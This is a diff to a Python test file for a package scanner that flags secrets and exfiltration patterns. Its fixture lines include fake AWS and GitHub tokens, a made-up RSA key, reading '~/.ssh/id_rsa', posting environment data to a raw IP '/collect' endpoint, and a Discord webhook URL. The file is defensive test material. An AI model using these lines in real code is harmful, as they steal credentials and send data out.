@@ -6,9 +6,12 @@ import random
 from pypi_platform.lib.scanner.text_rules import text_findings
 
 # Built from parts so that this file itself holds no complete secret.
-AWS_KEY = "AKIA" + "Z" * 16
-GITHUB_TOKEN = "ghp_" + "a1B2" * 9
+AWS_KEY = "AKIA" + "Q7RZ2MWJ5HNPK3VY"
+GITHUB_TOKEN = "ghp_" + "u8Kq2ZbN4rWx7LmT1pVc9sYd3FgH6jEa0oRi"
 PRIVATE_KEY = "-----BEGIN " + "RSA PRIVATE KEY-----"
+# A made-up key body: base64 of the right length, no key inside.
+KEY_BODY = base64.b64encode(random.Random(3).randbytes(600)).decode()
+PEM = PRIVATE_KEY + "\\n" + KEY_BODY + "\\n-----END RSA PRIVATE KEY-----"
 
 
 def _found(text: str) -> list[tuple[str, int]]:
@@ -20,7 +23,7 @@ def test_each_family_is_found_on_its_line():
         [
             f"KEY = '{AWS_KEY}'",
             f"TOKEN = '{GITHUB_TOKEN}'  # nosec",
-            f"PEM = '''{PRIVATE_KEY}'''",
+            f"PEM = '{PEM}'",
             "open(os.path.expanduser('~/.ssh/id_rsa')).read()",
             "requests.post('http://203.0.113.7:8080/collect', data=env)",
             "urlopen('https://discord.com/api/webhooks/123456789012345678/abcDEF')",
@@ -52,7 +55,7 @@ def test_benign_code_and_a_leading_byte_order_mark_give_nothing():
     assert _found(text) == []
 
 
-def test_local_and_private_addresses_are_not_raw_ip_findings_but_the_metadata_service_is():
+def test_local_and_private_addresses_are_not_raw_ip_findings_and_the_metadata_service_is_its_own_rule():
     text = "\n".join(
         [
             "Run the docs at http://127.0.0.1:8000/ or http://0.0.0.0:5000",
@@ -61,7 +64,7 @@ def test_local_and_private_addresses_are_not_raw_ip_findings_but_the_metadata_se
             "beacon = 'http://172.32.0.1/x'",
         ]
     )
-    assert _found(text) == [("network.raw-ip-url", 3), ("network.raw-ip-url", 4)]
+    assert _found(text) == [("network.cloud-metadata", 3), ("network.raw-ip-url", 4)]
 
 
 def test_client_configuration_is_its_own_rule_and_arithmetic_is_not_an_encoded_literal():
@@ -81,4 +84,12 @@ def test_a_service_base_url_is_not_a_webhook_but_a_concrete_endpoint_is():
             "path = profile + '/Network/Cookies'",
         ]
     )
-    assert _found(text) == [("credentials.sensitive-path", 5), ("network.paste-or-webhook-url", 3)]
+    found = list(text_findings("pkg/x.py", text))
+    assert sorted((f.rule, f.line) for f in found if f.severity != "low") == [
+        ("credentials.sensitive-path", 5),
+        ("network.paste-or-webhook-url", 3),
+    ]
+    assert {(f.rule, f.line) for f in found if f.severity == "low"} == {
+        ("network.messaging-api", 1),
+        ("network.messaging-api", 2),
+    }
